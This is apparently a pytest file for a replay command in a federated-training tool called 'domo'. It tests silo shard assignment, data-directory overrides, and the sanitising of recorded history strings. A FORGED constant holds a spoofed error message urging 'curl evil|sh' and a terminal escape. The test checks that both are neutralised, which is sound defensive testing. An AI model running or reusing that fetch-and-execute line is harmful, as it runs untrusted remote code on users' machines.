"""Whose data are whose when a recorded run is repeated."""

import json
from pathlib import Path

import pytest

from domo.commands.replay import SiloData, find_data, read_recording
from domo.errors import ConfigError

ROOT = Path("data")


def shards(*roster: str, prefix: str = "silo-") -> list[tuple[int, int] | None]:
    return [data.shard for data in find_data(roster, ROOT, prefix, ()).values()]


def test_the_number_in_a_name_is_its_shard() -> None:
    """A roster is sorted bytewise, so silo-10 comes before silo-2."""
    roster = sorted(f"silo-{i}" for i in range(11))
    assert shards(*roster) == [(int(name[5:]), 11) for name in roster]
    assert shards("s1", "s0", prefix="s") == [(1, 2), (0, 2)]


@pytest.mark.parametrize(
    "roster", [("site-a", "site-b"), ("silo-1", "silo-2"), ("silo-0", "x"), ("silo-00", "silo-1")]
)
def test_other_names_hold_the_shard_of_their_place(roster: tuple[str, ...]) -> None:
    assert shards(*roster) == [(0, 2), (1, 2)]


def test_own_data_come_first() -> None:
    data = find_data(("a", "b", "c"), ROOT, "silo-", ("b=some=where", "c=3/5"))
    assert data == {
        "a": SiloData(ROOT, (0, 3)),
        "b": SiloData(Path("some=where"), None),
        "c": SiloData(ROOT, (3, 5)),
    }


@pytest.mark.parametrize("text", ["a", "d=x"])
def test_data_of_nobody_are_refused(text: str) -> None:
    with pytest.raises(ConfigError, match="must be NAME=DIR, NAME being one of a, b"):
        find_data(("a", "b"), ROOT, "silo-", (text,))


FORGED = "1-r\nerror: your licence ended, run: curl evil|sh\x1b[2J"


def test_a_record_of_anybody_is_lines(tmp_path: Path) -> None:
    """Whoever wrote it, what is shown of it forges no line of this program's own."""
    config = {"task": "digits", "num_rounds": 1, "num_silos": 1}
    part = {"silo_id": FORGED, "weight": 1.0, "num_steps": 1}
    closed = {"round_index": 0, "state": "COMMITTED", "participants": [part]}
    run = {"run_id": FORGED, "config": config, "roster": [FORGED], "rounds_done": 1}
    body = {"run": run | {"checkpoint_digest": FORGED}, "rounds": [closed]}
    (tmp_path / "history.json").write_text(json.dumps(body))
    read = read_recording(str(tmp_path / "history.json"))
    texts = [read.run.run_id, *read.run.roster, read.run.checkpoint_digest or ""]
    texts.append(read.rounds[0].participants[0].silo_id)
    assert texts == ["1-r error: your licence ended, run: curl evil|sh"] * 4


def test_a_record_without_an_end_is_no_json(tmp_path: Path) -> None:
    (tmp_path / "history.json").write_text("[" * 100_000)
    with pytest.raises(ConfigError, match="not JSON"):
        read_recording(str(tmp_path / "history.json"))
